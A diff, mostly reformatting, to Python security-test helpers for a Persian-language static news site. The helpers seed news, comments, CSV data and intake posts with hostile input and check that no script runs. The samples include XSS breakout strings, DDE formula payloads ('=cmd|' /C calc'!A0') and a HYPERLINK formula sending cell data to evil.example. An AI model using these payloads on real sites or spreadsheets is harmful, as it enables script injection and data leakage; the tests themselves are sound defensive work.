@@ -9,24 +9,26 @@ ugc) ever reach the page" (comments); every other field is text.
 """
 
 import base64
+import contextlib
 import csv
 import html
 import io
 import json
 import re
-import urllib.parse
 import shutil
+import urllib.parse
 from html.parser import HTMLParser
 from pathlib import Path
 
+from test_comments_browser import VECTORS
+
 from conftest import ROOT, build_site, make_site, news_item
 from intake_support import on_topic, post, running
-from test_comments_browser import VECTORS
 
 # A few shapes the comment vectors lack, for the contexts a header or cell
 # reaches: inside a quoted attribute, inside a <script> (JSON-LD), a URL.
 CONTEXT_VECTORS = [
-    "\" onmouseover=\"alert(1)\" autofocus onfocus=\"alert(1)\" x=\"",
+    '" onmouseover="alert(1)" autofocus onfocus="alert(1)" x="',
     "' onmouseover='alert(1)' x='",
     "</script><script>alert(1)</script>",
     "</title><script>alert(1)</script>",
@@ -46,10 +48,12 @@ _LABEL = re.compile(RECORDER + r"\('([^']+)'\)|xss\.example/([\w:]+)\.js")
 
 def armed(vector, label):
     """``vector`` with its payload replaced by a call to the recorder naming
-    ``label`` (the field and vector it came from): ``title3``, ``agname12``."""
+    ``label`` (the field and vector it came from): ``title3``, ``agname12``.
+    """
     call = f"{RECORDER}('{label}')"
-    vector = vector.replace(_BASE64_SCRIPT, base64.b64encode(
-        f"<script>{call}</script>".encode()).decode())
+    vector = vector.replace(
+        _BASE64_SCRIPT, base64.b64encode(f"<script>{call}</script>".encode()).decode()
+    )
     vector = vector.replace("xss.example/x.js", f"xss.example/{label}.js")
     for payload in _PAYLOADS:
         vector = vector.replace(payload, call)
@@ -60,10 +64,8 @@ def labels_in(text):
     """The labels of the armed vectors ``text`` carries (base64 data: URLs decoded)."""
     found = {a or b for a, b in _LABEL.findall(text)}
     for chunk in re.findall(r"base64,([A-Za-z0-9+/=]+)", text):
-        try:
+        with contextlib.suppress(ValueError):
             found |= labels_in(base64.b64decode(chunk).decode("utf-8", "replace"))
-        except ValueError:
-            pass
     return found
 
 
@@ -114,22 +116,26 @@ def news_files(vectors=ALL_VECTORS):
 
 def one_line(value):
     """A header value as a comment file can hold it: Python reads U+2028 and
-    U+2029 as line ends."""
+    U+2029 as line ends.
+    """
     return value.replace("\u2028", " ").replace("\u2029", " ")
 
 
 def comment_files(vectors=ALL_VECTORS):
     """On each item, an approved comment by a hostile Author with a hostile
-    body, and an approved hostile reply to it."""
+    body, and an approved hostile reply to it.
+    """
     files = {}
     for i, v in enumerate(vectors):
         code = FIRST_CODE + i
         files[f"{code}/c{i}.md"] = (
             f"Author: {one_line(armed(v, f'author{i}'))}\nDate: 1397/12/01 10:{i % 60:02d}\n"
-            f"Status: approved\n\n{armed(v, f'comment{i}')}\n")
+            f"Status: approved\n\n{armed(v, f'comment{i}')}\n"
+        )
         files[f"{code}/r{i}.md"] = (
             f"Author: {one_line(armed(v, f'rauthor{i}'))}\nDate: 1397/12/02 10:{i % 60:02d}\n"
-            f"ReplyTo: c{i}\nStatus: approved\n\n{BODY}\n\n{armed(v, f'reply{i}')}\n")
+            f"ReplyTo: c{i}\nStatus: approved\n\n{BODY}\n\n{armed(v, f'reply{i}')}\n"
+        )
     return files
 
 
@@ -145,45 +151,75 @@ def award_files(vectors=ALL_VECTORS):
     festivals = [("id", "title", "year", "province", "held_on", "news_code", "honored_employees")]
     awards = [("festival", "agency", "group", "category", "award", "note")]
     for i, v in enumerate(vectors):
-        agencies.append((
-            f"ag{i}", "اداره کل " + armed(v, f"agname{i}"),
-            armed(v, f"agalias{i}").replace("|", "/") + f"|نام دیگر {i}",
-            # a raw vector is refused as a website (test_hostile: every one is);
-            # percent-encoded it is a valid address whose page must stay inert
-            armed(v, f"agprovince{i}"), hostile_website(i, v, encoded=True),
-        ))
-        festivals.append((
-            f"fest{i}", "جشنواره " + armed(v, f"festtitle{i}"), "1397",
-            armed(v, f"festprovince{i}"), "1397/06/04", str(FIRST_CODE + i), "3",
-        ))
-        awards.append((
-            f"fest{i}", f"ag{i}", armed(v, f"group{i}"), armed(v, f"awcategory{i}"),
-            armed(v, f"award{i}"), armed(v, f"note{i}"),
-        ))
+        agencies.append(
+            (
+                f"ag{i}",
+                "اداره کل " + armed(v, f"agname{i}"),
+                armed(v, f"agalias{i}").replace("|", "/") + f"|نام دیگر {i}",
+                # a raw vector is refused as a website (test_hostile: every one is);
+                # percent-encoded it is a valid address whose page must stay inert
+                armed(v, f"agprovince{i}"),
+                hostile_website(i, v, encoded=True),
+            )
+        )
+        festivals.append(
+            (
+                f"fest{i}",
+                "جشنواره " + armed(v, f"festtitle{i}"),
+                "1397",
+                armed(v, f"festprovince{i}"),
+                "1397/06/04",
+                str(FIRST_CODE + i),
+                "3",
+            )
+        )
+        awards.append(
+            (
+                f"fest{i}",
+                f"ag{i}",
+                armed(v, f"group{i}"),
+                armed(v, f"awcategory{i}"),
+                armed(v, f"award{i}"),
+                armed(v, f"note{i}"),
+            )
+        )
         # a second agency shares the award: its page names the first («مشترک با …»)
-        awards.append((
-            f"fest{i}", f"ag{(i + 1) % len(vectors)}", armed(v, f"group{i}"),
-            armed(v, f"awcategory{i}"), armed(v, f"award{i}"), "",
-        ))
+        awards.append(
+            (
+                f"fest{i}",
+                f"ag{(i + 1) % len(vectors)}",
+                armed(v, f"group{i}"),
+                armed(v, f"awcategory{i}"),
+                armed(v, f"award{i}"),
+                "",
+            )
+        )
     # spreadsheet formulas: open data must not hand them to Excel as formulas
     agencies.append(("formula", FORMULAS[0], "", FORMULAS[1], ""))
     festivals.append(("fest-formula", FORMULAS[2], "1397", "خراسان شمالی", "1397/06/04", "", ""))
     awards.append(("fest-formula", "formula", *FORMULAS[3:7]))
-    return {"agencies.csv": _csv(agencies), "festivals.csv": _csv(festivals),
-            "awards.csv": _csv(awards)}
+    return {
+        "agencies.csv": _csv(agencies),
+        "festivals.csv": _csv(festivals),
+        "awards.csv": _csv(awards),
+    }
 
 
 FORMULAS = (
-    '=HYPERLINK("https://evil.example/?"&A1,"اداره")', "@SUM(1+1)", "=cmd|' /C calc'!A0",
-    "+1+1", "-2+3*cmd|' /C calc'!A0", "=1+1", "@import",
+    '=HYPERLINK("https://evil.example/?"&A1,"اداره")',
+    "@SUM(1+1)",
+    "=cmd|' /C calc'!A0",
+    "+1+1",
+    "-2+3*cmd|' /C calc'!A0",
+    "=1+1",
+    "@import",
 )
 FORMULA_START = ("=", "+", "-", "@", "\t", "\r")
 
 
 def setting_overrides(vectors=ALL_VECTORS):
     """Site settings shown on every page, hostile too."""
-    found = {name: armed(vectors[j], f"setting{name}")
-             for j, name in enumerate(SETTING_FIELDS)}
+    found = {name: armed(vectors[j], f"setting{name}") for j, name in enumerate(SETTING_FIELDS)}
     found["MENUITEMS"] = [(armed(vectors[2], "settingMENU"), "awards/")]
     return found
 
@@ -191,7 +227,8 @@ def setting_overrides(vectors=ALL_VECTORS):
 def intake_fields(vectors=ALL_VECTORS):
     """(label, as_json, fields) for each intake post: the vector in the
     name (when it fits the name's 80 characters) and in the text, after a
-    sentence on the seed article's subject (so the rules let it through)."""
+    sentence on the seed article's subject (so the rules let it through).
+    """
     posts = []
     for i, v in enumerate(vectors):
         for as_json in (True, False):
@@ -199,16 +236,23 @@ def intake_fields(vectors=ALL_VECTORS):
             name = armed(v, f"{kind}name{i}")
             if len(name) > 80:
                 name = f"خواننده {i}"
-            posts.append((f"{kind}{i}", as_json, {
-                "name": name,
-                "text": on_topic(2 * i + as_json) + "\n\n" + armed(v, f"{kind}text{i}"),
-            }))
+            posts.append(
+                (
+                    f"{kind}{i}",
+                    as_json,
+                    {
+                        "name": name,
+                        "text": on_topic(2 * i + as_json) + "\n\n" + armed(v, f"{kind}text{i}"),
+                    },
+                )
+            )
     return posts
 
 
 def approve_held(folder):
     """Write ``Status: approved`` into every comment file in ``folder``
-    without a Status (what ``invoke moderation --approve`` does)."""
+    without a Status (what ``invoke moderation --approve`` does).
+    """
     for path in Path(folder).glob("*.md"):
         text = path.read_text(encoding="utf-8")
         head, _, body = text.partition("\n\n")
@@ -218,12 +262,18 @@ def approve_held(folder):
 
 def post_through_intake(site, vectors=ALL_VECTORS):
     """Every intake post of :func:`intake_fields` to the real service;
-    returns ``{label: HTTP status}``."""
+    returns ``{label: HTTP status}``.
+    """
     answers = {}
     with running(site) as service:
         for n, (label, as_json, fields) in enumerate(intake_fields(vectors)):
-            status, headers, body = post(service.base, INTAKE_CODE, fields, as_json=as_json,
-                                         client=f"10.1.{n // 250}.{n % 250 + 1}")
+            status, _headers, _body = post(
+                service.base,
+                INTAKE_CODE,
+                fields,
+                as_json=as_json,
+                client=f"10.1.{n // 250}.{n % 250 + 1}",
+            )
             answers[label] = status
     approve_held(Path(site) / "content/comments" / str(INTAKE_CODE))
     return answers
@@ -242,16 +292,26 @@ def make_hostile_site(tmp_path, vectors=ALL_VECTORS, intake=True):
 
 
 def build_hostile_site(site, output=None, vectors=ALL_VECTORS):
-    return build_site(site, output=output, COMMENTS={"endpoint": "http://127.0.0.1:9/intake"},
-                      **setting_overrides(vectors))
+    return build_site(
+        site,
+        output=output,
+        COMMENTS={"endpoint": "http://127.0.0.1:9/intake"},
+        **setting_overrides(vectors),
+    )
 
 
 # --- comments that cost: the shapes that make Markdown backtrack ---------------
 
 SENTENCE = "به نظرم اجرای کامل دولت الکترونیک در استان لازم است"
 SHAPES = {  # Markdown's link and image syntax left open, and half-closed
-    "brackets": "[", "images": "![", "links": "[a](", "nested": "[(",
-    "emphasis": "*a_", "angles": "<a ", "backticks": "`[", "entities": "&#[",
+    "brackets": "[",
+    "images": "![",
+    "links": "[a](",
+    "nested": "[(",
+    "emphasis": "*a_",
+    "angles": "<a ",
+    "backticks": "`[",
+    "entities": "&#[",
 }
 
 
@@ -266,35 +326,69 @@ def comment_site(tmp_path, bodies, code=5, replies=None, extra_news=""):
         reply = f"ReplyTo: {replies[n]}\n" if replies and replies.get(n) else ""
         comments[f"{code}/{n}.md"] = (
             f"Author: خواننده {n}\nDate: 1397/06/05 {10 + n // 3600 % 12:02d}:"
-            f"{n // 60 % 60:02d}:{n % 60:02d}\n{reply}Status: approved\n\n{body}\n")
-    return make_site(tmp_path, news={"a.md": news_item(
-        code, title="دولت الکترونیک", extra=extra_news,
-        body="اجرای کامل دولت الکترونیک در استان لازم است.")}, comments=comments)
-
+            f"{n // 60 % 60:02d}:{n % 60:02d}\n{reply}Status: approved\n\n{body}\n"
+        )
+    return make_site(
+        tmp_path,
+        news={
+            "a.md": news_item(
+                code,
+                title="دولت الکترونیک",
+                extra=extra_news,
+                body="اجرای کامل دولت الکترونیک در استان لازم است.",
+            )
+        },
+        comments=comments,
+    )
 
 
 # field -> where it comes from (the labels' prefixes)
 FIELDS = {
-    "title": "news Title", "kicker": "news Kicker", "lead": "news Lead",
-    "dateline": "news Dateline", "category": "news Category", "tag": "news Tags",
+    "title": "news Title",
+    "kicker": "news Kicker",
+    "lead": "news Lead",
+    "dateline": "news Dateline",
+    "category": "news Category",
+    "tag": "news Tags",
     "body": "news body",
-    "author": "comment Author", "comment": "comment body",
-    "rauthor": "reply Author", "reply": "reply body",
-    "agname": "agencies.csv name", "agalias": "agencies.csv aliases",
-    "agprovince": "agencies.csv province", "website": "agencies.csv website",
-    "festtitle": "festivals.csv title", "festprovince": "festivals.csv province",
-    "group": "awards.csv group", "awcategory": "awards.csv category",
-    "award": "awards.csv award", "note": "awards.csv note",
-    "jsonname": "intake JSON name", "jsontext": "intake JSON text",
-    "formname": "intake form name", "formtext": "intake form text",
+    "author": "comment Author",
+    "comment": "comment body",
+    "rauthor": "reply Author",
+    "reply": "reply body",
+    "agname": "agencies.csv name",
+    "agalias": "agencies.csv aliases",
+    "agprovince": "agencies.csv province",
+    "website": "agencies.csv website",
+    "festtitle": "festivals.csv title",
+    "festprovince": "festivals.csv province",
+    "group": "awards.csv group",
+    "awcategory": "awards.csv category",
+    "award": "awards.csv award",
+    "note": "awards.csv note",
+    "jsonname": "intake JSON name",
+    "jsontext": "intake JSON text",
+    "formname": "intake form name",
+    "formtext": "intake form text",
     "setting": "SITENAME, SITESUBTITLE, AUTHOR, MENUITEMS",
 }
 
 
 # --- looking at the output -----------------------------------------------------
 
-URL_ATTRIBUTES = {"href", "src", "action", "formaction", "data", "xlink:href", "srcdoc",
-                  "poster", "background", "codebase", "cite", "srcset"}
+URL_ATTRIBUTES = {
+    "href",
+    "src",
+    "action",
+    "formaction",
+    "data",
+    "xlink:href",
+    "srcdoc",
+    "poster",
+    "background",
+    "codebase",
+    "cite",
+    "srcset",
+}
 _SPACE_OR_CONTROL = re.compile(r"[\x00-\x20\x7f]+")
 _BAD_SCHEME = re.compile(r"^(javascript|vbscript|livescript|data:text|data:application)", re.I)
 
@@ -313,8 +407,18 @@ class _Injected(HTMLParser):
     """
 
     CDATA_CONTENT_ELEMENTS = ("script",)
-    BARE = ("iframe", "object", "embed", "base", "frame", "frameset", "applet", "math",
-            "mglyph", "template")
+    BARE = (
+        "iframe",
+        "object",
+        "embed",
+        "base",
+        "frame",
+        "frameset",
+        "applet",
+        "math",
+        "mglyph",
+        "template",
+    )
 
     def __init__(self, text):
         super().__init__(convert_charrefs=True)
@@ -332,30 +436,30 @@ class _Injected(HTMLParser):
     def _after(self):
         line, column = self.getpos()
         start = self.lines[line - 1] + column
-        return self.text[start:start + 300]
+        return self.text[start : start + 300]
 
     def _check(self, tag, attrs):
-        for name, value in attrs:
-            name = (name or "").lower()
-            value = value or ""
-            if name.startswith("on"):
-                self.found.append(f"<{tag} {name}='{value[:300]}'>")
-            elif name in URL_ATTRIBUTES and bad_url(value):
+        for raw_name, raw_value in attrs:
+            name = (raw_name or "").lower()
+            value = raw_value or ""
+            if name.startswith("on") or (name in URL_ATTRIBUTES and bad_url(value)):
                 self.found.append(f"<{tag} {name}='{value[:300]}'>")
             elif name == "style" and re.search(r"javascript:|expression\(|url\(", value, re.I):
                 self.found.append(f"<{tag} style='{value[:300]}'>")
             elif name == "src" and tag == "script" and "xss.example" in value:
                 self.found.append(f"<script src='{value}'>")
-        if tag == "meta" and any((n or "").lower() == "http-equiv" and
-                                 (v or "").lower() == "refresh" for n, v in attrs):
+        if tag == "meta" and any(
+            (n or "").lower() == "http-equiv" and (v or "").lower() == "refresh" for n, v in attrs
+        ):
             self.found.append(f"<meta http-equiv=refresh> {self._after()}")
         if tag in self.BARE:
             self.found.append(f"<{tag}> {self._after()}")
         if tag == "script":
             kind = (dict(attrs).get("type") or "").strip().lower()
             # JSON-LD and JSON data islands are not run: only their breakout is
-            self._script = [] if kind in ("", "module", "text/javascript",
-                                          "application/javascript") else None
+            self._script = (
+                [] if kind in ("", "module", "text/javascript", "application/javascript") else None
+            )
 
     def handle_data(self, data):
         if self._script is not None:
@@ -380,7 +484,8 @@ def injected(text):
 
 def first_label(text):
     """The first label in ``text`` (a finding starts with the element it is
-    about; the source after it may name later fields), or ``None``."""
+    about; the source after it may name later fields), or ``None``.
+    """
     match = re.search(_LABEL.pattern + r"|base64,([A-Za-z0-9+/=]+)", text)
     if match is None:
         return None
@@ -438,21 +543,26 @@ DOM_INSPECT = """() => {
 class Recorder:
     """Every script execution a page's vectors managed: ``hits`` (labels the
     recorder was called with, and dialogs) and ``dom`` (on* attributes and
-    script URLs in the live DOM), by page."""
+    script URLs in the live DOM), by page.
+    """
 
     def __init__(self, context):
         self.hits = []
         self.dom = {}
         self._page = None
-        context.expose_function(RECORDER, lambda label="": self.hits.append((self._page, str(label))))
+        context.expose_function(
+            RECORDER, lambda label="": self.hits.append((self._page, str(label)))
+        )
         context.add_init_script(INIT_SCRIPT)
         self.context = context
 
     def visit(self, base, rel):
         self._page = rel
         page = self.context.new_page()
-        page.on("dialog", lambda d: (self.hits.append((rel, f"dialog {d.type}: {d.message}")),
-                                     d.dismiss()))
+        page.on(
+            "dialog",
+            lambda d: (self.hits.append((rel, f"dialog {d.type}: {d.message}")), d.dismiss()),
+        )
         try:
             page.goto(f"{base}/{rel}", wait_until="load")
             page.mouse.move(180, 300)
@@ -468,7 +578,8 @@ class Recorder:
 
 def browse_all(output, browser=None, pages=None):
     """Open every HTML page of ``output`` in chromium (``browser``, else one
-    started here): ``(hits, {page: live DOM findings})``."""
+    started here): ``(hits, {page: live DOM findings})``.
+    """
     from chapar.checks.serve import serve_folder
 
     server, base = serve_folder(output)
@@ -493,8 +604,12 @@ def browse_all(output, browser=None, pages=None):
 def _browse(browser, base, pages):
     context = browser.new_context(viewport={"width": 360, "height": 740})
     try:
-        context.route("**/*", lambda r: r.continue_() if r.request.url.startswith(
-            (base, "data:", "blob:")) else r.abort())
+        context.route(
+            "**/*",
+            lambda r: (
+                r.continue_() if r.request.url.startswith((base, "data:", "blob:")) else r.abort()
+            ),
+        )
         recorder = Recorder(context)
         for rel in pages:
             recorder.visit(base, rel)
@@ -558,25 +673,31 @@ def parsed_findings(output, browser):
 
 def static_findings(output):
     """``[(page, injected element)]`` over every HTML page."""
-    return [(rel, hit) for rel in html_pages(output)
-            for hit in injected((Path(output) / rel).read_text(encoding="utf-8"))]
+    return [
+        (rel, hit)
+        for rel in html_pages(output)
+        for hit in injected((Path(output) / rel).read_text(encoding="utf-8"))
+    ]
 
 
 def _read_as_html(element):
     """Whether a feed reader renders this element's text as HTML: Atom's text
     constructs only with ``type="html"`` (plain text is the default, shown as
-    typed), RSS's ``description``; titles of RSS and Atom's default are text."""
+    typed), RSS's ``description``; titles of RSS and Atom's default are text.
+    """
     tag = element.tag.rsplit("}", 1)[-1]
     if element.tag.startswith("{http://www.w3.org/2005/Atom}"):
-        return tag in ("summary", "content", "title", "subtitle", "rights") and \
-            element.get("type") in ("html", "xhtml")
+        return tag in ("summary", "content", "title", "subtitle", "rights") and element.get(
+            "type"
+        ) in ("html", "xhtml")
     return tag == "description"
 
 
 def feed_findings(output):
     """``[(feed, injected element)]``: the HTML a feed reader renders
     (summaries and content; :func:`_read_as_html`) after the XML is parsed;
-    a feed that does not parse is a finding of its own."""
+    a feed that does not parse is a finding of its own.
+    """
     import xml.etree.ElementTree as ET
 
     found = []
@@ -605,12 +726,14 @@ def json_errors(output):
 
 # --- bad files: each must stop the build with path:line: message --------------------
 
+
 def _news_case(files):
     return lambda tmp: make_site(tmp, news=files)
 
 
 def _awards_case(agencies):
     """``agencies`` is called when the site is made (awards_helpers is a test module)."""
+
     def make(tmp):
         from awards_helpers import write_awards
 
@@ -619,6 +742,7 @@ def _awards_case(agencies):
             path.unlink()
         write_awards(site / "data/awards", agencies=agencies())
         return site
+
     return make
 
 
@@ -630,30 +754,58 @@ def _agencies_plus(rows):
 
 # (what, the problem's expected start, site maker)
 BAD_INPUTS = [
-    ("NUL byte in a header", "content/news/nul.md:1:",
-     _news_case({"nul.md": news_item(5, title="خبر\0آزمایشی")})),
-    ("NUL byte in a body", "content/news/nul.md:5:",
-     _news_case({"nul.md": news_item(5, body="متن\0خبر")})),
-    ("Date: 9999-12-31 23:59", "content/news/bad.md:2:",
-     _news_case({"bad.md": news_item(5, date="9999-12-31 23:59")})),
-    ("Date: 2100-01-01", "content/news/bad.md:2:",
-     _news_case({"bad.md": news_item(5, date="2100-01-01")})),
-    ("Date: 1499/12/29", "content/news/bad.md:2:",
-     _news_case({"bad.md": news_item(5, date="1499/12/29")})),
-    ("CR inside a quoted CSV cell", "data/awards/agencies.csv:5:",
-     _awards_case(lambda: _agencies_plus('cr,"اداره کل\rراه",,,\n'))),
-    ("unclosed CSV quote", "data/awards/agencies.csv:5:",
-     _awards_case(lambda: _agencies_plus('open,"اداره کل راه,,,\n' + "road,راه,,,\n" * 3))),
-    ("NewsCode 0077 beside 77", "content/news/",
-     _news_case({"a.md": news_item("0077"), "b.md": news_item(77, title="دیگر")})),
-    ("hostile Agencies", "content/news/a.md:4:",
-     _news_case({"a.md": news_item(5, extra="Agencies: <img src=x onerror=alert(1)>\n")})),
+    (
+        "NUL byte in a header",
+        "content/news/nul.md:1:",
+        _news_case({"nul.md": news_item(5, title="خبر\0آزمایشی")}),
+    ),
+    (
+        "NUL byte in a body",
+        "content/news/nul.md:5:",
+        _news_case({"nul.md": news_item(5, body="متن\0خبر")}),
+    ),
+    (
+        "Date: 9999-12-31 23:59",
+        "content/news/bad.md:2:",
+        _news_case({"bad.md": news_item(5, date="9999-12-31 23:59")}),
+    ),
+    (
+        "Date: 2100-01-01",
+        "content/news/bad.md:2:",
+        _news_case({"bad.md": news_item(5, date="2100-01-01")}),
+    ),
+    (
+        "Date: 1499/12/29",
+        "content/news/bad.md:2:",
+        _news_case({"bad.md": news_item(5, date="1499/12/29")}),
+    ),
+    (
+        "CR inside a quoted CSV cell",
+        "data/awards/agencies.csv:5:",
+        _awards_case(lambda: _agencies_plus('cr,"اداره کل\rراه",,,\n')),
+    ),
+    (
+        "unclosed CSV quote",
+        "data/awards/agencies.csv:5:",
+        _awards_case(lambda: _agencies_plus('open,"اداره کل راه,,,\n' + "road,راه,,,\n" * 3)),
+    ),
+    (
+        "NewsCode 0077 beside 77",
+        "content/news/",
+        _news_case({"a.md": news_item("0077"), "b.md": news_item(77, title="دیگر")}),
+    ),
+    (
+        "hostile Agencies",
+        "content/news/a.md:4:",
+        _news_case({"a.md": news_item(5, extra="Agencies: <img src=x onerror=alert(1)>\n")}),
+    ),
 ]
 
 
 def run_bad_input(tmp, expected, make):
     """Build the bad site: ``(ok, what happened)``; ok when the build stopped
-    with every problem as path:line: message and one at ``expected``."""
+    with every problem as path:line: message and one at ``expected``.
+    """
     from chapar.build.errors import BuildError
 
     tmp = Path(tmp)
@@ -665,9 +817,12 @@ def run_bad_input(tmp, expected, make):
         problems = err.problems
         shaped = all(re.match(r"^[^\s:][^:]*:\d+: \S", p) for p in problems)
         hit = [p for p in problems if p.startswith(expected)]
-        ok = shaped and bool(hit) and (expected.count(":") > 1 or
-                                       re.match(r"^[^:]+:\d+: ", hit[0]) is not None)
+        ok = (
+            shaped
+            and bool(hit)
+            and (expected.count(":") > 1 or re.match(r"^[^:]+:\d+: ", hit[0]) is not None)
+        )
         return ok, (hit or problems)[0][:160]
-    except Exception as exc:  # a crash: the very thing this guards against
+    except Exception as exc:  # noqa: BLE001 (a crash: the very thing this guards against)
         return False, f"crashed: {type(exc).__name__}: {str(exc)[:120]}"
     return False, "built without a problem"
